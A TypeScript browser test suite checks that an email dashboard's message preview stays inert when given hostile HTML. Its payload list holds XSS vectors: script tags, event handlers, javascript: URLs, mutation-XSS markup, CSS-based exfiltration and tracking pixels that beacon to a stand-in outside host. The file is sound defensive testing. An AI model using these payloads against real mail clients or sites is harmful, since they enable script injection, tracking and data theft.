import { createServer } from "node:http"
import type { AddressInfo } from "node:net"
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest"
import { hasBrowser, startDashboard, type TestDashboard } from "./support/startDashboard.js"

/** Another host, as far as a browser is concerned, and who asked it for what. */
let asked: Array<string> = []
const other = createServer((request, response) => {
  asked.push(request.url ?? "")
  response.end()
})
const outside = await new Promise<string>((resolve) => {
  other.listen(0, "127.0.0.1", () => {
    resolve(`http://127.0.0.1:${String((other.address() as AddressInfo).port)}/x`)
  })
})

/** Leaves a trace wherever it runs: on the page, in its storage, or at the other host. */
const trace = `try{top.postMessage('ran','*');localStorage.ran=1}catch(e){};new Image().src='${outside}'`

/**
 * Each tries to run something, to load something, to tell what it sees, or to lead the page away.
 */
const hostile: ReadonlyArray<readonly [name: string, html: string]> = [
  [
    "scripts",
    `<script>${trace}</script><script src="${outside}"></script><script type=module>${trace}</script><svg><script>${trace}</script></svg>`
  ],
  [
    "handlers of events",
    `<img src=x onerror="${trace}"><svg onload="${trace}"><body onload="${trace}"><details open ontoggle="${trace}">x</details><input autofocus onfocus="${trace}"><marquee onstart="${trace}">x</marquee><video onerror="${trace}"><source></video>`
  ],
  [
    "links of scripts",
    `<a id=go href="javascript:${trace}">go</a><a href="data:text/html,<script>${trace}</script>">data</a><form action="javascript:${trace}"><button>send</button></form>`
  ],
  [
    "documents inside",
    `<iframe srcdoc="<script>${trace.replaceAll('"', "&quot;")}</script>"></iframe><iframe src="javascript:${trace}"></iframe><object data="data:text/html,<script>${trace}</script>"></object><embed src="${outside}">`
  ],
  [
    "addresses of the document",
    `<base href="${outside}"><meta http-equiv="refresh" content="0;url=${outside}"><meta http-equiv="Content-Security-Policy" content="default-src *"><link rel="stylesheet" href="${outside}"><link rel="prefetch" href="${outside}">`
  ],
  [
    "forms that send themselves",
    `<form id=f action="${outside}"><input name=a value=b></form><input form=f type=image src="${outside}" autofocus><button form=f formaction="${outside}">x</button><script>f.submit()</script>`
  ],
  [
    "styles that tell",
    `<style>@import "${outside}"; @font-face { font-family: x; src: url(${outside}) } body { font-family: x; background: url(${outside}); cursor: url(${outside}), auto } input[value^="b"] { list-style-image: url('${outside}') } @namespace svg "x"; p { --a: url(${outside}); background: var(--a); content: image-set("${outside}" 1x) }</style><p style="background-image:url(${outside})">x</p>`
  ],
  [
    "pictures that count",
    `<img src="${outside}" width=1 height=1><img srcset="${outside} 2x"><picture><source srcset="${outside}"><img></picture><table background="${outside}"><tr><td background="${outside}">x</table><svg><image href="${outside}"/><use href="${outside}#a"/><feImage href="${outside}"/></svg><video poster="${outside}"></video><bgsound src="${outside}">`
  ],
  [
    "markup that is read differently the second time",
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${trace}&gt;"></table></mtext></math><noscript><p title="</noscript><img src=x onerror='${trace}'>"></noscript><svg></p><style><a id="</style><img src=1 onerror='${trace}'>">`
  ],
  [
    "markup that takes over the page",
    "<div style='position:fixed;inset:0;z-index:2147483647;background:red'>cover</div><style>* { display: none !important } body, div { display: block !important }</style><form id=__proto__></form><img name=body><img name=getElementById>"
  ],
  [
    "characters that turn text around",
    "<p>\u202Egnp.exe\u202C \u0000 \uFFFE \u2028</p><p>&#x202e;&#0;&#xD800;</p>"
  ]
]

/**
 * Browsers say what policies refused, and of which address nothing is left; that is no fault of the
 * page.
 */
const isRefusal = (error: string): boolean =>
  /Content Security Policy|sandboxed|Unsafe attempt|Blocked script|decode downloaded font: data:,$/.test(
    error
  )

const title = "Whatever it says"

describe.runIf(hasBrowser())("in a browser, hostile mail on the page of its message", () => {
  let dashboard: TestDashboard
  beforeAll(async () => {
    dashboard = await startDashboard()
  })
  beforeEach(() => {
    asked = []
  })
  afterAll(async () => {
    other.close()
    await dashboard.close()
  })

  const open = async (html: string) => {
    const {
      queued: [message]
    } = await dashboard.telemark.emails.send({ to: "ada@example.com", subject: title, html })
    const opened = await dashboard.open(`/messages/${message?.id ?? ""}`)
    await opened.page.evaluate(
      "window.told = []; addEventListener('message', ({ data }) => { told.push(data) })"
    )
    await opened.page.getByRole("tab", { name: "Preview" }).waitFor()
    return { ...opened, id: message?.id ?? "" }
  }

  it.each(hostile)(
    "runs nothing, loads nothing and leaves the page as it is: %s",
    async (_, html) => {
      const { close, errors, page, requests } = await open(`<p>before</p>${html}`)
      const address = page.url()
      const frame = page.frameLocator("iframe")
      await frame.locator("body").waitFor({ state: "attached" })
      for (const name of ["Phone", "Dark", "Desktop"])
        await page.getByRole("button", { name, exact: true }).click()
      const links = frame.locator("a, button")
      for (let index = 0; index < (await links.count()); index += 1)
        await links
          .nth(index)
          .click({ force: true })
          .catch(() => undefined)
      for (const name of ["Text", "Headers", "Source", "Attachments", "Preview"])
        await page.getByRole("tab", { name: new RegExp(`^${name}`) }).click()
      expect(asked).toEqual([])
      expect(
        requests.filter(
          (url) => !url.startsWith(`${dashboard.origin}/`) && !url.startsWith("blob:")
        )
      ).toEqual([])
      expect(await page.evaluate("told.filter((one) => one === 'ran')")).toEqual([])
      expect(await page.evaluate("localStorage.getItem('ran')")).toBeNull()
      expect(new URL(page.url()).pathname).toBe(new URL(address).pathname)
      expect(page.context().pages()).toHaveLength(1)
      expect(await page.locator("main h1").innerText()).toBe(title)
      expect(errors.filter((error) => !isRefusal(error))).toEqual([])
      await close()
    }
  )
})
